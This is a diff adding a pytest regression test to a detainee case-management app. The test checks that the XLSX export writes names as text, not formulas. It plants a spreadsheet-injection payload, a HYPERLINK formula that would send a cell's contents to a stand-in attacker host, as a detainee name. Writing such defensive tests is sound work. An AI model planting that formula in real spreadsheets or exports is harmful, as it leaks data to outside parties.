@@ -3,6 +3,7 @@ exactly the filtered rows, the status form's refusals in place, and constant que
 
 import csv
 import io
+import zipfile
 from collections import defaultdict
 
 import pytest
@@ -87,6 +88,22 @@ def test_xlsx_export_is_exactly_the_filtered_rows(client, analyst, scenario):
     refs = {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
     expected = Detainee.objects.filter(status="released", citizenship_count__gte=2).values_list("case_ref", flat=True)
     assert refs == set(expected) and refs
+
+
+def test_the_xlsx_export_writes_a_formula_as_text(client, analyst, officer, scenario):
+    """Probing found a full_name of =HYPERLINK(...) written as a live formula (an <f> cell); names
+    arrive on lists other governments hand over. Every cell is a string."""
+    from cases.services.detainees import detainee_create
+
+    planted = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'
+    detainee_create(full_name=planted, actor=officer, citizenships=["FR"])
+    response = signed_in(client, analyst).get("/detainees/export.xlsx", {"citizenship": "FR"})
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert planted in names
 
 
 def test_exports_mark_what_must_not_be_disclosed_and_what_is_uncertain(client, analyst, scenario):
